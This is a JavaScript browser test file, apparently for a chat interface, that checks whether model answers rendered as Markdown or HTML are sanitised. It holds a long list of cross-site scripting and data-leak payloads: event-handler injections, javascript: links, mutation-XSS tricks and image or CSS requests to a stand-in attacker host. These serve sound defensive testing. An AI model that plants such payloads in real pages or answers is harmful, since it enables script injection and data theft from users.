/* SPDX-License-Identifier: Apache-2.0 */
/* What a model says must not act. Each payload goes through the whole page as an answer, and once more past the renderer
 * straight to the sanitiser, the second line of defence. */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { launch, send, skip, withPage } from "./harness.mjs";

const OFF = "https://evil.invalid/leak";
const PAYLOADS = [
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<script type=module>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<img src=x onerror=\"window.__pwned=1\" x=`",
    "<IMG \"\"\"><SCRIPT>window.__pwned=1</SCRIPT>\">",
    `<img src="${OFF}">`,
    `<img srcset="${OFF} 1x">`,
    `<picture><source srcset="${OFF}"><img></picture>`,
    `<video poster="${OFF}" autoplay><source src=x onerror=window.__pwned=1></video>`,
    `<audio src="${OFF}" autoplay onloadstart=window.__pwned=1>`,
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:window.__pwned=1\"><text x=20 y=20>click</text></a></svg>",
    `<svg><use href="${OFF}#x"/></svg>`,
    "<svg><foreignObject><iframe srcdoc='<script>parent.__pwned=1</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.__pwned=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=window.__pwned=1>\">",
    "<template><img src=x onerror=window.__pwned=1></template>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=window.__pwned=1></annotation-xml></math>",
    "<iframe src=\"javascript:parent.__pwned=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    `<iframe src="${OFF}"></iframe>`,
    `<object data="${OFF}"></object><embed src="${OFF}">`,
    "<object data=\"data:text/html,<script>parent.__pwned=1</script>\"></object>",
    "<style>@import url(https://evil.invalid/x.css); body{display:none}</style>",
    `<p style="background:url(${OFF});position:fixed;inset:0">over all</p>`,
    `<link rel=stylesheet href="${OFF}"><link rel=prefetch href="${OFF}">`,
    `<meta http-equiv=refresh content="0;url=${OFF}">`,
    `<base href="https://evil.invalid/">`,
    `<form action="${OFF}"><input name=x autofocus onfocus=window.__pwned=1><button>Go on</button></form>`,
    "<button formaction=\"javascript:window.__pwned=1\" form=composer>Send</button>",
    "<input type=image src=x onerror=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1><summary>x</summary></details>",
    "<body onload=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>x</marquee>",
    "<div id=question name=composer class=\"dialog\" data-close role=alert aria-live=assertive>clobber</div>",
    "<a href=\"javascript:window.__pwned=1\">x</a>",
    "<a href=\"&#106;avascript:window.__pwned=1\">x</a>",
    "<a href=\"data:text/html,<script>window.__pwned=1</script>\">x</a>",
    `<a href="${OFF}" ping="${OFF}" target=_self onclick=window.__pwned=1>x</a>`,
    "<b onmouseover=window.__pwned=1>bold</b>",
    "<br onload=window.__pwned=1>",
    "<sub/onclick=window.__pwned=1>x</sub>",
    "[x](javascript:window.__pwned=1)",
    "[x](JaVaScRiPt&colon;window.__pwned=1)",
    "[x](java\tscript:window.__pwned=1)",
    "[x](&#x6A;&#x61;vascript:window.__pwned=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](/api/events)",
    "[x](//evil.invalid/x)",
    "<javascript:window.__pwned=1>",
    "[x]: javascript:window.__pwned=1\n\n[x] and [y][x]",
    `![leak](${OFF}?q=secret)`,
    "![x](x\" onerror=\"window.__pwned=1)",
    "![x\" onerror=\"window.__pwned=1](https://evil.invalid/a.png)",
    "![x](javascript:window.__pwned=1)",
    `![a][pic]\n\n[pic]: ${OFF} "title' onload='window.__pwned=1"`,
    `[![in](${OFF})](javascript:window.__pwned=1)`,
    "```<img src=x onerror=window.__pwned=1>\ncode\n```",
    "```html\" onmouseover=\"window.__pwned=1\n<script>window.__pwned=1</script>\n```",
    "`<img src=x onerror=window.__pwned=1>`",
    "| <img src=x onerror=window.__pwned=1> | b |\n|--|--|\n| <script>window.__pwned=1</script> | [x](javascript:window.__pwned=1) |",
    "- [ ] <svg/onload=window.__pwned=1>\n- [x] <img src=x onerror=window.__pwned=1>",
    "<!--><img src=x onerror=window.__pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "<?xml-stylesheet href=\"javascript:window.__pwned=1\"?>",
    "&lt;img src=x onerror=window.__pwned=1&gt;",
    "<img src=x onerror=window.__pwned=1//",
    "\u0000<img src=x onerror=window.__pwned=1>",
    "</div></article></main><script>window.__pwned=1</script>",
    "<custom-element is=x onclick=window.__pwned=1>x</custom-element>",
];
const ALLOWED = new Set(["A", "B", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "H1", "H2", "H3", "H4", "H5", "H6", "HR",
    "I", "KBD", "LI", "MARK", "OL", "P", "PATH", "PRE", "SPAN", "STRONG", "SUB", "SUP", "SVG", "TABLE", "TBODY", "TD", "TH", "THEAD",
    "TR", "U", "UL"]);

/* inspect lists what must not be in an element that shows a model's words. Runs in the page. */
function inspect([root, allowed])
{
    const wrong = [];
    for (const element of root.querySelectorAll("*")) {
        const name = element.nodeName.toUpperCase();
        if (!allowed.includes(name))
            wrong.push(`element ${name}`);
        if ((name === "SVG" || name === "BUTTON") && !element.closest(".code-head"))
            wrong.push(`element ${name} outside a code block's head`);
        for (const { name: attribute, value } of element.attributes) {
            if (/^on|^style$|^id$|^name$|^src|^ping$|action$/i.test(attribute))
                wrong.push(`attribute ${attribute}=${value}`);
        }
        if (name === "A" && (!/^(https?:|mailto:)/.test(element.getAttribute("href")) || !element.rel.includes("noopener")))
            wrong.push(`link ${element.outerHTML}`);
    }
    return wrong;
}

describe("hostile answers", { skip }, () => {
    let browser;
    before(async () => { browser = await launch(); });
    after(async () => { await browser?.close(); });

    test("do nothing as an answer, nor after a reload", () => withPage(browser, {}, async (page) => {
        for (const payload of PAYLOADS) {
            await page.click("#new-chat");
            const answer = await send(page, payload);
            const prose = await answer.locator(".prose").elementHandle();
            assert.deepEqual(await page.evaluate(inspect, [prose, [...ALLOWED]]), [], payload);
        }
        await page.reload();
        await page.waitForSelector("html[data-ready] .answer");
        assert.equal(await page.locator(".chat").count(), PAYLOADS.length);
    }));

    /* DOMPurify parses in a document of its own, where nothing runs; the browser still reports what the policy would refuse. */
    test("do nothing when they reach the sanitiser as HTML", () => withPage(browser, { refusals: true }, async (page) => {
        for (const payload of PAYLOADS) {
            const root = await page.evaluateHandle(async (html) => {
                const { sanitise } = await import("/assets/markdown.js");
                const element = document.createElement("div");
                element.append(sanitise(html));
                document.querySelector("#thread").append(element);
                return element;
            }, payload);
            assert.deepEqual(await page.evaluate(inspect, [root, [...ALLOWED]]), [], payload);
        }
        await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
    }));
});
